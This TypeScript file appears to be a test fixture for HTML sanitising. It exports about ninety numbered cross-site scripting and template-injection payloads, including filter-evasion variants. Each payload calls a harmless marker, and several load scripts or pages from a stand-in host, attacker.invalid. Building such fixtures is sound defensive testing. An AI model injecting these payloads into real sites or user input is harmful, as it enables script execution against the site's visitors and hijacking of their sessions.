/**
 * What people write who want their words to become part of a page. `%` stands for the number of the payload: what it runs says
 * `injected(%)`, and what it makes has the attribute `data-injected`, so that one can count both. Nobody answers at the host.
 */
const HOST = 'https://attacker.invalid'

const SCRIPTS = [
  '<script data-injected>injected(%)</script>',
  '<SCRIPT data-injected>injected(%)</SCRIPT>',
  `<script data-injected src="${HOST}/x.js?%"></script>`,
  '"><script data-injected>injected(%)</script>',
  "'><script data-injected>injected(%)</script>",
  '</script><script data-injected>injected(%)</script>',
  '</textarea></title></style></noscript><script data-injected>injected(%)</script>',
  '<scr<script>ipt data-injected>injected(%)</scr</script>ipt>',
  '--><script data-injected>injected(%)</script><!--',
  ']]><script data-injected>injected(%)</script>',
  '<script data-injected type="module">injected(%)</script>',
  '<script data-injected>import("data:text/javascript,parent.injected(%)")</script>',
]

const HANDLERS = [
  '<img data-injected src=x onerror=injected(%)>',
  '<img data-injected src=x onerror="injected(%)" alt="',
  '"><img data-injected src=x onerror=injected(%)>',
  "' onmouseover='injected(%)' data-injected='",
  '" onfocus="injected(%)" autofocus data-injected="',
  '` onmouseover=injected(%) data-injected=`',
  '<body data-injected onload=injected(%)>',
  '<details data-injected open ontoggle=injected(%)>x</details>',
  '<video data-injected><source onerror=injected(%)></video>',
  '<audio data-injected src=x onerror=injected(%)></audio>',
  '<input data-injected autofocus onfocus=injected(%)>',
  '<select data-injected autofocus onfocus=injected(%)></select>',
  '<textarea data-injected autofocus onfocus=injected(%)></textarea>',
  '<marquee data-injected onstart=injected(%)>x</marquee>',
  '<div data-injected style="animation:x 1s" onanimationstart=injected(%)>x</div>',
  '<button data-injected popovertarget=x>x</button><div id=x popover onbeforetoggle=injected(%)>x</div>',
  '<img/data-injected/src=x/onerror=injected(%)>',
  '<img data-injected src=x onerror\n=\ninjected(%)>',
  '<IMG data-injected SRC=x OnErRoR=injected(%)>',
]

const ADDRESSES = [
  '<a data-injected href="javascript:injected(%)">click</a>',
  'javascript:injected(%)',
  'JaVaScRiPt:injected(%)//https://linden.example',
  'java\tscript:injected(%)',
  'https://linden.example/"onmouseover="injected(%)"data-injected="',
  "https://linden.example/'><img data-injected src=x onerror=injected(%)>",
  'https://linden.example/?a=<script data-injected>injected(%)</script>',
  'https://user:javascript@linden.example:99/injected(%)',
  'www.linden.example/javascript:injected(%)',
  'data:text/html,<script>parent.injected(%)</script>',
  '<iframe data-injected src="javascript:parent.injected(%)"></iframe>',
  '<iframe data-injected srcdoc="<script>parent.injected(%)</script>"></iframe>',
  '<object data-injected data="data:text/html,<script>parent.injected(%)</script>"></object>',
  `<embed data-injected src="${HOST}/%">`,
  '<form data-injected action="javascript:injected(%)"><button>x</button></form>',
  '<button data-injected formaction="javascript:injected(%)">x</button>',
  `<base data-injected href="${HOST}/%/">`,
  `<link data-injected rel=stylesheet href="${HOST}/%.css">`,
  `<meta data-injected http-equiv="refresh" content="0;url=${HOST}/%">`,
  `<style data-injected>@import "${HOST}/%.css";*{background:url(${HOST}/%)}</style>injected(%)`,
  `<img data-injected src="${HOST}/%.png">injected(%)`,
]

const OTHER_LANGUAGES = [
  '<svg data-injected onload=injected(%)>',
  '<svg data-injected><script>injected(%)</script></svg>',
  '<svg data-injected><animate onbegin=injected(%) attributeName=x dur=1s>',
  '<svg data-injected><a xlink:href="javascript:injected(%)"><text y=20>x</text></a></svg>',
  '<svg data-injected><foreignObject><img src=x onerror=injected(%)></foreignObject></svg>',
  '<math data-injected><mtext><table><mglyph><style><img src=x onerror=injected(%)>',
  '<math data-injected><maction actiontype="statusline" xlink:href="javascript:injected(%)">x</maction></math>',
  '<noscript><p title="</noscript><img data-injected src=x onerror=injected(%)>">',
  '<x-injected data-injected onclick=injected(%)>x</x-injected>',
  '<template data-injected shadowrootmode=open><script>injected(%)</script></template>',
]

const TEMPLATES = [
  '{@html "<img data-injected src=x onerror=injected(%)>"}',
  '{injected(%)}',
  '{{injected(%)}}',
  "{{constructor.constructor('injected(%)')()}}",
  '${injected(%)}',
  '<%= injected(%) %>',
  '#{injected(%)}',
  '[[${injected(%)}]]',
  '{"__proto__":{"injected":"injected(%)"}}',
]

const WRITINGS = [
  '**injected(%)** __x__ ~~x~~ `x` ```<img data-injected src=x onerror=injected(%)>```',
  '*<img data-injected src=x onerror=injected(%)>* _<b data-injected>injected(%)</b>_ ~<i data-injected>x</i>~',
  '[injected(%)](javascript:injected(%)) ![x](javascript:injected(%))',
  `![injected(%)](${HOST}/%.png)`,
  '> <img data-injected src=x onerror=injected(%)>\n- <script data-injected>injected(%)</script>',
  '&lt;img data-injected src=x onerror=injected(%)&gt; &#60;script&#62;injected(%)&#60;/script&#62;',
  '\\u003cimg data-injected src=x onerror=injected(%)\\u003e',
  '%3Cimg data-injected src=x onerror=injected(%)%3E',
  '\uff1cscript data-injected\uff1einjected(%)\uff1c/script\uff1e',
  '\u202e>(%)detcejni=rorreno x=crs detcejni-atad gmi<\u202c injected(%)',
  '\u2067<img data-injected src=x onerror=injected(%)>\u2069',
  '<img\u0000 data-injected src=x onerror=injected(%)>',
  '<\u0000script data-injected>injected(%)</script>',
  '<img data-injected src=x onerror=injected(%)\u2028>',
  '\ud83d<script data-injected>injected(%)</script>\ude00',
  `Z${'\u0300\u0489'.repeat(200)}<img data-injected src=x onerror=injected(%)>`,
  `injected(%)${'<b data-injected>'.repeat(100)}`,
  `injected(%)${'A'.repeat(1500)}<img data-injected src=x onerror=injected(%)>`,
]

/** All of them, each with its number and with words that say it. */
export const MARKUP_PAYLOADS: readonly string[] = [
  ...SCRIPTS,
  ...HANDLERS,
  ...ADDRESSES,
  ...OTHER_LANGUAGES,
  ...TEMPLATES,
  ...WRITINGS,
].map((payload, index) => {
  const numbered = payload.replaceAll('(%)', `(${index})`).replaceAll(/%(?=[./"?)])/g, String(index))
  const words = wordsOf(index)
  return numbered.includes(words) ? numbered : `${numbered} ${words}`
})

/** The words that stand in each payload, by which it is found where it is shown. */
export function wordsOf(index: number): string {
  return `injected(${index})`
}
